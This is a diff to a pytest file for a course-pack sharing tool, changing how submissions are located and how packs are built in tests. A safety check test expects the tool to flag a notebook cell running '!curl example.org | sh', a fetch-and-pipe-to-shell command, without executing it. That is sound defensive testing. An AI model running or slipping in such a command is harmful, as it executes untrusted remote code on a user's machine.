@@ -9,14 +9,17 @@ import re
 import shutil
 import subprocess
 import sys
-from pathlib import Path
 from typing import TYPE_CHECKING
 
 import packs
 import pytest
 
+from copydesk.course.course import Course
+from copydesk.sharing.packing import pack_course
+
 if TYPE_CHECKING:
     from collections.abc import Iterator
+    from pathlib import Path
 
 ANSWER = """
 import copydesk
@@ -94,7 +97,7 @@ def test_a_learner_opens_a_pack_and_the_author_grades_it(author: Path, tmp_path:
     assert "Unpacked into" in said
     assert not (learner / "ferry" / "solutions").exists()
     answer(learner / "ferry", "exercises", "T1", "office", alias="Ada")
-    (submission,) = (learner / "ferry").rglob("*Ada*.json")
+    (submission,) = (learner / "ferry" / "my-work" / "submissions").glob("*.json")
     said = "".join(opened_lines("ferry.zip", "--yes", cwd=learner))
     assert "Your work there is kept" in said
     assert submission.is_file()
@@ -114,7 +117,7 @@ def test_a_colleague_grades_and_builds_with_a_pack_with_keys(author: Path, tmp_p
     shutil.move(author / "ferry-with-keys.zip", colleague / "ferry.zip")
     "".join(opened_lines("ferry.zip", "--yes", cwd=colleague))
     answer(colleague / "ferry", "exercises", "T1", "office", alias="Bo")
-    (submission,) = (colleague / "ferry").rglob("*Bo*.json")
+    (submission,) = (colleague / "ferry" / "my-work" / "submissions").glob("*.json")
     (colleague / "in").mkdir()
     shutil.copy(submission, colleague / "in")
     said = run("grade", "../in", "--out", "../graded", cwd=colleague / "ferry")
@@ -130,7 +133,7 @@ def test_two_packs_do_not_mix_answers(tmp_path: Path) -> None:
     here.mkdir()
     for name in ("ferry", "tram"):
         root = packs.write_course(tmp_path / name, id=name, title=name.title())
-        run("pack", root, "--out", f"{name}.zip", cwd=here)
+        (here / f"{name}.zip").write_bytes(pack_course(Course(root), keys=False).content)
         "".join(opened_lines(f"{name}.zip", "--yes", cwd=here))
     answer(here / "ferry", "lessons", "P1", "office")
     answer(here / "tram", "lessons", "P1", "ferry")
@@ -142,7 +145,7 @@ def test_two_packs_do_not_mix_answers(tmp_path: Path) -> None:
 
 
 def test_checking_a_pack_says_what_it_would_run(tmp_path: Path) -> None:
-    """A check of somebody's pack names the cell that does more, runs none of it, and leaves nothing behind."""
+    """A check of someone's pack names the cell that does more, runs none of it, and leaves nothing behind."""
     (tmp_path / "x.zip").write_bytes(packs.SEEN["shell"]())
     said = run("check", "x.zip", cwd=tmp_path, code=1)
     assert "cell 3: runs a command: !curl example.org | sh" in said
